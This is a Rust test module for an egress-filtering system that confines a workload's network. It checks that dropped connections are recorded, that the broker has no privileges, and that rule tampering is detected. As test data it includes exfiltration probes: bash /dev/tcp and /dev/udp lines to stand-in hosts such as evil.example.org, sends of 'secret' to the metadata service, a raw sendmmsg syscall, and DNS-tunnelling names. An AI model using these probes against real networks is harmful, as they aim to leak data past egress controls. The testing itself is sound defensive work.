mod confined;
mod installed;

use super::*;
use std::io::{BufRead as _, BufReader, Read as _, Write as _};
use std::net::{Ipv4Addr, SocketAddr, TcpListener, TcpStream};
use std::os::unix::process::CommandExt as _;
use std::process::{Command, Stdio};
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::mpsc;
use std::time::Duration;

use rustix::thread::{CapabilitySet, CapabilitySets, set_capabilities};

use crate::broker_tests::TERMINATE;
use crate::broker_tests::world::{API, CDN, EVIL, World};
use crate::dns;
use crate::far_side::{FarSide, connect, fragment, fragment6, in_a_network_with_users, raw_socket, send, sh};
use crate::plan::{BROKER_USER, GuestNetwork};
use crate::process::{run_broker, run_trusting};
use crate::record::{DropRecord, Status};
use crate::tls::Roots;

const POLICY: &str = r#"
format = "confide-egress-policy/1"
name = "test"
log = "drops"
[[bootstrap]]
cidr = "198.51.100.0/25"
ports = [80, 8080]
protocol = "tcp"
[[serving]]
cidr = "198.51.100.0/25"
ports = [80]
protocol = "tcp"
"#;

/// Who runs what in the guest.
const WORKLOAD_USER: u32 = 1000;

fn rules(policy: &EgressPolicy, phase: Phase) -> Ruleset {
    plan::guest(policy, phase, GuestNetwork { serving_port: 8443, key_broker: None }).unwrap()
}

/// A guest in a network of the test's own, and what is beyond it.
pub(crate) struct Guest {
    pub(crate) far: FarSide,
    pub(crate) enforcement: Enforcement,
    policy: EgressPolicy,
}

impl Guest {
    /// One in a world of names, whose servers have certificates of the world's own authority.
    pub(crate) fn of_a_world(world: &World, far: FarSide, test: &str) -> Self {
        std::fs::write(authority(std::process::id()), &world.authority).unwrap();
        let guest = Self::under(&world.text, far, test);
        std::fs::remove_file(authority(std::process::id())).unwrap();
        guest
    }

    /// One whose broker is this test's own program, in which `test` acts as the broker.
    fn new(far: FarSide, test: &str) -> Self {
        Self::under(POLICY, far, test)
    }

    pub(crate) fn under(text: &str, far: FarSide, test: &str) -> Self {
        let policy = EgressPolicy::parse(text).unwrap();
        let mut enforcement = Enforcement::begin(&policy, &rules(&policy, Phase::Bootstrap)).unwrap();
        let arguments = ["--exact", test, "--nocapture"].map(Into::into).to_vec();
        let command = BrokerCommand { program: "/proc/self/exe".into(), arguments };
        enforcement.start_broker(&command, text, policy.digest()).unwrap();
        Self { far, enforcement, policy }
    }

    fn lock(&mut self) {
        self.enforcement.lock(&rules(&self.policy, Phase::Serving)).unwrap();
    }

    /// What the broker has seen.
    pub(crate) fn broker(&mut self) -> Status {
        let (broker, _) = self.enforcement.broker.as_mut().unwrap();
        broker.status().unwrap()
    }

    /// Does something in the workload's place, as root, who may more than any workload.
    fn workload<T: Send + 'static>(&self, attempt: impl FnOnce() -> T + Send + 'static) -> T {
        self.enforcement.workload().run(attempt).unwrap()
    }

    /// Runs a script as the workload runs: as its user, in its network, under its filter. Whether it succeeds, and the calls that were
    /// refused.
    fn script(&self, script: &str) -> (bool, Vec<String>) {
        let script = script.to_owned();
        self.confined(move || as_user(&script))
    }

    /// Everything that was dropped so far, with a record.
    fn drops(&mut self) -> u64 {
        let of_broker: u64 = self.broker().dropped.iter().map(|(_, count)| count).sum();
        of_broker + self.enforcement.packets().count()
    }
}

/// Runs a script as the workload's user; whether it succeeds.
fn as_user(script: &str) -> bool {
    let mut shell = Command::new("sh");
    succeeds(shell.args(["-c", script]).uid(WORKLOAD_USER).gid(WORKLOAD_USER))
}

/// Runs a script as this process' user; whether it succeeds.
fn as_root(script: &str) -> bool {
    succeeds(Command::new("sh").args(["-c", script]))
}

fn succeeds(shell: &mut Command) -> bool {
    shell.stdout(Stdio::null()).stderr(Stdio::null()).status().unwrap().success()
}

/// In a broker's process the test is the broker.
fn acts_as_broker() -> bool {
    let broker = is_broker();
    if broker {
        run_broker().unwrap();
    }
    broker
}

/// As [`acts_as_broker`], of a world with an authority of its own.
pub(crate) fn acts_as_broker_of_a_world() -> bool {
    let broker = is_broker();
    if broker {
        let pem = std::fs::read(authority(std::os::unix::process::parent_id())).unwrap();
        run_trusting(&Roots::pem(&pem).unwrap()).unwrap();
    }
    broker
}

fn is_broker() -> bool {
    rustix::process::geteuid().as_raw() == BROKER_USER
}

/// Runs what hears of packets, as it is run in a guest, but for its privileges: it has none.
fn hear_packets(guest: &mut Guest) {
    let logs = std::mem::take(&mut guest.enforcement.logs);
    let packets = guest.enforcement.packets();
    std::thread::spawn(move || {
        give_up_all();
        let error = packets.hear(&logs);
        panic!("{error}");
    });
}

fn give_up_all() {
    let none = CapabilitySet::empty();
    set_capabilities(None, CapabilitySets { effective: none, permitted: none, inheritable: none }).unwrap();
}

/// Waits until something holds.
fn eventually(mut holds: impl FnMut() -> bool) -> bool {
    (0..300).any(|_| {
        let held = holds();
        if !held {
            std::thread::sleep(Duration::from_millis(10));
        }
        held
    })
}

/// Servers beyond the guest at 198.51.100.1, which say that they were reached, and count bytes that they got.
fn serve(far: &FarSide, port: u16) -> Arc<AtomicUsize> {
    let got = Arc::new(AtomicUsize::new(0));
    let listener = far.0.run(move || TcpListener::bind((Ipv4Addr::UNSPECIFIED, port)).unwrap()).unwrap();
    let counted = Arc::clone(&got);
    std::thread::spawn(move || {
        for stream in listener.incoming() {
            let (mut stream, counted) = (stream.unwrap(), Arc::clone(&counted));
            std::thread::spawn(move || {
                let mut buffer = [0; 64];
                while let Ok(length @ 1..) = stream.read(&mut buffer) {
                    counted.fetch_add(length, Ordering::SeqCst);
                    let _ = stream.write_all(b"reached");
                }
            });
        }
    });
    got
}

/// What comes back for a few bytes.
fn ask(stream: &mut TcpStream) -> String {
    stream.set_read_timeout(Some(Duration::from_secs(5))).unwrap();
    let mut buffer = [0; 7];
    let asked = stream.write_all(b"ask").and_then(|()| stream.read(&mut buffer));
    String::from_utf8_lossy(buffer.get(..asked.unwrap_or_default()).unwrap()).into_owned()
}

fn open(to: &str) -> TcpStream {
    TcpStream::connect_timeout(&to.parse::<SocketAddr>().unwrap(), Duration::from_secs(5)).unwrap()
}

type Attempt = (&'static str, fn());

/// Ways out that root may try; the workload's user may try fewer.
const ATTEMPTS: [Attempt; 21] = [
    ("an address that is not listed", || connect_and_say("1.2.3.4:443")),
    ("a listed address on another port", || connect_and_say("198.51.100.1:22")),
    ("the metadata service", || connect_and_say("169.254.169.254:80")),
    ("a neighbour", || connect_and_say("10.0.2.2:7443")),
    ("DNS over TCP to another server", || connect_and_say("8.8.8.8:53")),
    ("DNS over TLS to another server", || connect_and_say("8.8.8.8:853")),
    ("IPv6", || connect_and_say("[2606:4700::1]:443")),
    ("a neighbour of IPv6", || connect_and_say("[fd00::2]:7443")),
    ("IPv4 translated to IPv6", || connect_and_say("[64:ff9b::102:304]:443")),
    ("a listed address as IPv6 spells it", || connect_and_say("[::ffff:1.2.3.4]:443")),
    ("DNS to another server", || send("8.8.8.8:53")),
    ("UDP", || send("1.2.3.4:4444")),
    ("QUIC", || send("198.51.100.1:443")),
    ("UDP over IPv6", || send("[2606:4700::1]:443")),
    ("many datagrams in one call", || python(SENDMMSG)),
    ("ICMP", || raw_socket(1)),
    ("SCTP", || raw_socket(132)),
    ("an unknown protocol", || raw_socket(253)),
    ("a raw packet of TCP", || raw_socket(6)),
    ("a fragment", fragment),
    ("a fragment of IPv6", fragment6),
];

fn connect_and_say(to: &str) {
    if let Ok(mut stream) = TcpStream::connect_timeout(&to.parse().unwrap(), Duration::from_millis(300)) {
        let _ = stream.write_all(b"secret");
        let _ = stream.set_read_timeout(Some(Duration::from_secs(5)));
        let _ = stream.read(&mut [0; 64]);
    }
}

/// Calls of the kernel by their numbers, without a library that could be in between.
const SENDMMSG: &str = "\
import ctypes, socket, struct
libc = ctypes.CDLL(None)
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
to = ctypes.create_string_buffer(struct.pack('=HH4s8x', socket.AF_INET, socket.htons(4444), socket.inet_aton('1.2.3.4')), 16)
data = ctypes.create_string_buffer(b'secret', 6)
iov = ctypes.create_string_buffer(struct.pack('=QQ', ctypes.addressof(data), 6), 16)
one = struct.pack('=QI4xQQQQi4xI4x', ctypes.addressof(to), 16, ctypes.addressof(iov), 1, 0, 0, 0, 0)
both = ctypes.create_string_buffer(one * 2, len(one) * 2)
libc.syscall(307, s.fileno(), both, 2, 0)
";

fn python(program: &str) {
    Command::new("python3").args(["-c", program]).stderr(Stdio::null()).status().unwrap();
}

#[test]
fn no_way_out_of_the_workloads_network_gets_a_byte_out_and_each_has_a_record() {
    const NAME: &str =
        "enforcement::tests::no_way_out_of_the_workloads_network_gets_a_byte_out_and_each_has_a_record";
    if acts_as_broker() {
        return;
    }
    in_a_network_with_users(NAME, || {
        let far = FarSide::new();
        far.sh("ip route add local 198.51.100.0/24 dev lo");
        let got = serve(&far, 80);
        // Unprotected, each reaches the far side, or would prove nothing.
        for (what, attempt) in ATTEMPTS {
            assert!(far.hears(attempt), "{what} does not reach the far side unprotected");
        }
        let mut guest = Guest::new(far, NAME);
        hear_packets(&mut guest);
        for phase in [Phase::Bootstrap, Phase::Serving] {
            for (what, attempt) in ATTEMPTS {
                let (before, arrived) = (guest.drops(), guest.far.packets());
                guest.workload(attempt);
                assert!(eventually(|| guest.drops() > before), "{what} has no record while {}", phase.name());
                assert_eq!(guest.far.packets(), arrived, "{what} gets out while {}", phase.name());
            }
            // What is listed gets through, by its address and by the proxy.
            let answer = guest.workload(|| ask(&mut open("198.51.100.1:80")));
            assert_eq!(answer, "reached", "while {}", phase.name());
            assert_eq!(got.swap(0, Ordering::SeqCst), 3);
            if phase == Phase::Bootstrap {
                guest.lock();
            }
        }
        // The proxy decides as the kernel's redirection does.
        let tunnel = |to: &'static str| {
            move || {
                let mut stream = open("127.0.0.1:3128");
                write!(stream, "CONNECT {to} HTTP/1.1\r\nHost: {to}\r\n\r\n").unwrap();
                let mut answer = [0; 64];
                let length = stream.read(&mut answer).unwrap_or_default();
                String::from_utf8_lossy(&answer[..length]).into_owned()
            }
        };
        let answer = guest.workload(tunnel("198.51.100.1:80"));
        assert!(answer.starts_with("HTTP/1.1 200"), "{answer}");
        for to in ["1.2.3.4:443", "198.51.100.1:8080", "10.0.2.2:80", "127.0.0.1:22"] {
            let (before, arrived) = (guest.drops(), guest.far.packets());
            let answer = guest.workload(tunnel(to));
            assert!(answer.starts_with("HTTP/1.1 403"), "{to}: {answer}");
            assert!(guest.drops() > before, "{to}");
            assert_eq!(guest.far.packets(), arrived, "{to}");
        }
        // Records of the kernel say where to and by whom.
        guest.script("bash -c 'echo secret > /dev/udp/192.0.2.7/9'");
        let latest = || guest.enforcement.packets().status().latest.pop();
        let of_user =
            |record: DropRecord| record.destination == "192.0.2.7:9/udp" && record.uid == Some(WORKLOAD_USER);
        assert!(eventually(|| latest().is_some_and(of_user)), "{:?}", latest());
    });
}

/// A connection to the proxy, one that the kernel redirects, also over IPv6, and a question.
const REFUSED_BY_THE_BROKER: [(&str, &str, &str); 4] = [
    (
        "proxy",
        "evil.example.org:443/tcp",
        "exec 3<>/dev/tcp/127.0.0.1/3128; printf 'CONNECT evil.example.org:443 HTTP/1.1\\r\\n\\r\\n' >&3; head -c 1 <&3",
    ),
    ("transparent", "1.2.3.4:443/tcp", "exec 3<>/dev/tcp/1.2.3.4/443; head -c 1 <&3"),
    ("transparent", "[2606:4700::1]:443/tcp", "exec 3<>/dev/tcp/2606:4700::1/443; head -c 1 <&3"),
    ("dns", "evil.example.org", QUESTION),
];
const QUESTION: &str = "exec 3<>/dev/udp/192.0.2.53/53; printf \"$ASKED\" >&3; head -c 1 <&3";

#[test]
fn records_of_the_broker_name_the_user_whose_process_asked() {
    const NAME: &str = "enforcement::tests::records_of_the_broker_name_the_user_whose_process_asked";
    if acts_as_broker() {
        return;
    }
    in_a_network_with_users(NAME, || {
        let mut guest = Guest::new(FarSide::new(), NAME);
        guest.lock();
        let asked = dns::query(5, "evil.example.org", dns::Family::V4);
        let asked: String = asked.iter().map(|byte| format!("\\x{byte:02x}")).collect();
        for (way, destination, attempt) in REFUSED_BY_THE_BROKER {
            for user in [WORKLOAD_USER, WORKLOAD_USER + 1] {
                let (attempt, asked) = (attempt.to_owned(), asked.clone());
                let said = guest.workload(move || {
                    let mut shell = Command::new("timeout");
                    shell.args(["10", "bash", "-c", &attempt]).env("ASKED", asked);
                    shell.uid(user).gid(user).output().unwrap()
                });
                let record = guest.broker().latest.pop().unwrap_or_else(|| panic!("{way}: {said:?}"));
                assert_eq!((record.way.name(), record.destination.as_str()), (way, destination), "{said:?}");
                assert_eq!(record.uid, Some(user), "{way} to {destination}: {said:?}");
            }
        }
    });
}

#[test]
fn a_connection_from_before_the_lock_carries_nothing_after_it() {
    const NAME: &str = "enforcement::tests::a_connection_from_before_the_lock_carries_nothing_after_it";
    if acts_as_broker() {
        return;
    }
    in_a_network_with_users(NAME, || {
        let far = FarSide::new();
        far.sh("ip route add local 198.51.100.0/24 dev lo");
        let got = [8080, 80].map(|port| serve(&far, port));
        let mut guest = Guest::new(far, NAME);
        // One is listed while serving, too, and the other is not. Both were opened before.
        let mut streams = guest.workload(|| ["198.51.100.1:8080", "198.51.100.1:80"].map(open));
        for stream in &mut streams {
            assert_eq!(ask(stream), "reached");
        }
        guest.lock();
        for stream in &mut streams {
            assert_eq!(ask(stream), "");
        }
        assert_eq!(
            got.each_ref().map(|got| got.load(Ordering::SeqCst)),
            [3, 3],
            "a byte arrived after the lock"
        );
        let codes: Vec<_> = guest.broker().latest.iter().map(|record| record.reason.code()).collect();
        assert_eq!(codes, ["phase_over"; 2]);
        assert_eq!(guest.workload(|| ask(&mut open("198.51.100.1:80"))), "reached");
    });
}

#[test]
fn the_broker_is_a_user_without_privileges_in_the_guests_network() {
    const NAME: &str = "enforcement::tests::the_broker_is_a_user_without_privileges_in_the_guests_network";
    if acts_as_broker() {
        return;
    }
    in_a_network_with_users(NAME, || {
        let mut guest = Guest::new(FarSide::new(), NAME);
        let pid = guest.enforcement.broker.as_ref().unwrap().0.id();
        let status = std::fs::read_to_string(format!("/proc/{pid}/status")).unwrap();
        let field = |name: &str| {
            let line = status.lines().find_map(|line| line.strip_prefix(name)).unwrap();
            line.split_whitespace().map(str::to_owned).collect::<Vec<_>>()
        };
        assert_eq!((field("Uid:"), field("Gid:")), (vec!["990".to_owned(); 4], vec!["990".to_owned(); 4]));
        assert_eq!((field("Groups:"), field("NoNewPrivs:")), (vec![], vec!["1".to_owned()]));
        for set in ["CapInh:", "CapPrm:", "CapEff:", "CapBnd:", "CapAmb:"] {
            assert_eq!(field(set), ["0000000000000000"], "{set}");
        }
        let network = |path: String| std::fs::read_link(path).unwrap();
        assert_eq!(network(format!("/proc/{pid}/ns/net")), network("/proc/self/ns/net".to_owned()));
        let own = guest.workload(|| std::fs::read_link("/proc/thread-self/ns/net").unwrap());
        assert_ne!(own, network("/proc/self/ns/net".to_owned()));
        // It is no debugger's: not even another process of its user's.
        let memory = std::fs::metadata(format!("/proc/{pid}/mem")).unwrap();
        assert_eq!(std::os::unix::fs::MetadataExt::uid(&memory), 0, "it can be dumped");
        guest.lock();
        assert_eq!(guest.broker().rules.len(), 1);
    });
}

/// What a guard says once `change` is made in a locked guest. It has no privilege.
fn guard_says(guest: Guest, name: &str, change: impl FnOnce()) -> EgressError {
    let guards = guest.enforcement.guards();
    let (_, guard) = guards.into_iter().find(|(guard, _)| *guard == name).unwrap();
    let (tell, told) = mpsc::channel();
    std::thread::spawn(move || {
        give_up_all();
        tell.send(guard()).unwrap();
    });
    assert!(told.recv_timeout(Duration::from_millis(300)).is_err(), "{name} before anything changed");
    change();
    told.recv_timeout(Duration::from_secs(10)).unwrap()
}

#[test]
fn a_guest_without_privileges_hears_of_changed_rules_and_of_a_lost_broker() {
    const NAME: &str =
        "enforcement::tests::a_guest_without_privileges_hears_of_changed_rules_and_of_a_lost_broker";
    if acts_as_broker() {
        return;
    }
    in_a_network_with_users(NAME, || {
        let locked = |far| {
            let mut guest = Guest::new(far, NAME);
            guest.lock();
            guest
        };
        let far = FarSide::new();
        let FarSide(beyond) = &far;
        let beyond = beyond.clone();
        let changed = guard_says(locked(far), "rules", || drop(sh("nft add table inet x")));
        assert!(matches!(changed, EgressError::RulesChanged { side: Side::Guest }), "{changed}");
        let guest = locked(FarSide(beyond.clone()));
        let workload = guest.enforcement.workload().clone();
        let flush = move || drop(workload.run(|| sh("nft flush ruleset")).unwrap());
        let changed = guard_says(guest, "rules", flush);
        assert!(matches!(changed, EgressError::RulesChanged { side: Side::Workload }), "{changed}");
        // So many messages that some are lost.
        let many = || {
            let rules: String =
                (0..750).map(|number| format!("add table inet {}{number}\n", "t".repeat(240))).collect();
            crate::far_side::load(&rules);
        };
        let changed = guard_says(locked(FarSide(beyond.clone())), "rules", many);
        assert!(matches!(changed, EgressError::RulesChanged { side: Side::Guest }), "{changed}");
        let guest = locked(FarSide(beyond));
        let pid = guest.enforcement.broker.as_ref().unwrap().0.id();
        let lost = guard_says(guest, "egress-broker", || drop(sh(&format!("kill -9 {pid}"))));
        assert!(matches!(lost, EgressError::BrokerLost(_)), "{lost}");
    });
}

#[test]
fn rules_that_are_not_what_was_put_into_force_are_found_at_the_lock() {
    const NAME: &str = "enforcement::tests::rules_that_are_not_what_was_put_into_force_are_found_at_the_lock";
    in_a_network_with_users(NAME, || {
        let deny = EgressPolicy::deny_all();
        let serving = rules(&deny, Phase::Serving);
        let mut enforcement = Enforcement::begin(&deny, &rules(&deny, Phase::Bootstrap)).unwrap();
        assert!(enforcement.broker().is_none());
        enforcement.lock(&serving).unwrap();
        assert!(nft::is_in_force(&serving).unwrap());
        sh("nft add rule inet confide output accept");
        assert!(!nft::is_in_force(&serving).unwrap());
        // The guest's own are written anew at the lock; those of the workload's network are not.
        enforcement.lock(&serving).unwrap();
        for change in
            ["nft add table ip x", "nft delete table ip x; nft insert rule inet confide output accept"]
        {
            enforcement.workload().run(move || sh(change)).unwrap();
            let error = enforcement.lock(&serving).unwrap_err();
            assert!(matches!(error, EgressError::RulesDiffer { side: Side::Workload }), "{error}");
            assert_eq!(error.code(), "egress_rules_differ");
        }
    });
}

#[test]
fn a_workload_without_a_broker_gets_nothing_but_records() {
    const NAME: &str = "enforcement::tests::a_workload_without_a_broker_gets_nothing_but_records";
    in_a_network_with_users(NAME, || {
        let deny = EgressPolicy::deny_all();
        let mut enforcement = Enforcement::begin(&deny, &rules(&deny, Phase::Bootstrap)).unwrap();
        enforcement.lock(&rules(&deny, Phase::Serving)).unwrap();
        let (packets, workload) = (enforcement.packets(), enforcement.workload().clone());
        let logs = std::mem::take(&mut enforcement.logs);
        std::thread::spawn({
            let packets = packets.clone();
            move || packets.hear(&logs)
        });
        for (what, attempt) in ATTEMPTS {
            let before = packets.count();
            workload.run(attempt).unwrap();
            assert!(eventually(|| packets.count() > before), "{what} has no record");
        }
        // What leaves the guest's own network is told, too.
        sh("ip link set lo up; ip link add name near type veth peer name far
            ip addr add 10.0.2.15/24 dev near; ip link set near up; ip link set far up; ip neigh replace 10.0.2.9 lladdr 02:00:00:00:00:01 dev near");
        connect("10.0.2.9:443");
        assert!(eventually(|| packets.status().guest > 0), "{:?}", packets.status());
    });
}

/// Where the authority of a test's own servers is, for the broker that this process starts.
fn authority(parent: u32) -> std::path::PathBuf {
    std::env::current_exe().unwrap().with_extension(format!("authority-{parent}"))
}

/// What the workload asks a DNS server for, which it thinks is at 192.0.2.53; the answer's first address.
fn resolve(name: &str) -> Option<std::net::IpAddr> {
    let socket = std::net::UdpSocket::bind("0.0.0.0:0").unwrap();
    socket.set_read_timeout(Some(Duration::from_secs(5))).unwrap();
    socket.send_to(&dns::query(5, name, dns::Family::V4), "192.0.2.53:53").unwrap();
    let mut reply = [0; 512];
    let length = socket.recv(&mut reply).unwrap();
    dns::answer(&reply[..length], 5, name, dns::Family::V4).ok()?.addresses.first().copied()
}

/// What comes back from an address for a request for the root of this host, over plain HTTP.
fn fetch(to: SocketAddr, host: &str) -> String {
    let mut stream = TcpStream::connect_timeout(&to, Duration::from_secs(5)).unwrap();
    stream.set_read_timeout(Some(Duration::from_secs(20))).unwrap();
    // Who is refused may be so before this is written.
    let _ = write!(stream, "GET / HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n");
    let mut answer = Vec::new();
    let _ = stream.read_to_end(&mut answer);
    String::from_utf8_lossy(&answer).into_owned()
}

/// Real rules, a real broker process, a DNS server that is asked over TLS, and servers with certificates beyond the guest.
#[test]
fn a_name_is_reached_by_the_broker_alone_and_by_its_certificate() {
    const NAME: &str = "enforcement::tests::a_name_is_reached_by_the_broker_alone_and_by_its_certificate";
    if acts_as_broker_of_a_world() {
        return;
    }
    in_a_network_with_users(NAME, || {
        let far = FarSide::new();
        let runtime = tokio::runtime::Runtime::new().unwrap();
        let world = runtime.block_on(World::beyond(&far, TERMINATE));
        let [cdn, evil] = [CDN, EVIL].map(|address| SocketAddr::new(address.parse().unwrap(), 443));
        let long = format!("{}.example.org", "c2VjcmV0".repeat(7));
        let tunnels = ["c2VjcmV0.evil.example.org", "sub.api.example.com", &long];
        // Unprotected, each is reached, and a DNS server learns every name.
        open(&cdn.to_string());
        open(&evil.to_string());
        assert!(eventually(|| (world.cdn.connections(), world.evil.connections()) == (1, 1)));
        for name in tunnels {
            runtime.block_on(world.question_arrives(&dns::query(5, name, dns::Family::V4)));
        }
        let learnt: Vec<_> = world.zone.questions().into_iter().map(|(name, _)| name).collect();
        assert_eq!(learnt, tunnels);
        world.forget();
        let mut guest = Guest::of_a_world(&world, far, NAME);
        guest.lock();
        // By a name that the workload resolves, and by the proxy: the broker speaks TLS.
        let made_up = guest.workload(|| resolve(API)).unwrap();
        let answer = guest.workload(move || fetch(SocketAddr::new(made_up, 443), API));
        assert!(answer.ends_with("you reached api.example.com"), "{answer}");
        let by_proxy = guest.workload(|| {
            let mut stream = open("127.0.0.1:3128");
            let host = format!("{API}:443");
            write!(stream, "GET http://{host}/ HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n")
                .unwrap();
            let mut answer = String::new();
            stream.read_to_string(&mut answer).map(|_| answer).unwrap_or_default()
        });
        assert!(by_proxy.ends_with("you reached api.example.com"), "{by_proxy}");
        assert_eq!(world.cdn.requests().len(), 2);
        // Names that carry data reach nobody; nor do addresses of allowed names, nor another owner's.
        for name in tunnels {
            let (before, asked) = (guest.drops(), name.to_owned());
            assert_eq!(guest.workload(move || resolve(&asked)), None, "{name}");
            assert!(guest.drops() > before, "{name}");
        }
        let (connections, arrived) = (world.cdn.connections(), guest.far.packets());
        for to in [cdn, evil] {
            let before = guest.drops();
            assert_eq!(guest.workload(move || fetch(to, API)), "", "{to}");
            assert!(guest.drops() > before, "{to}");
        }
        assert_eq!((world.cdn.connections(), guest.far.packets()), (connections, arrived));
        let asked: Vec<_> = world.zone.questions().into_iter().map(|(name, _)| name).collect();
        assert!(!asked.is_empty() && asked.iter().all(|name| name == API), "{asked:?}");
        runtime.shutdown_background();
    });
}
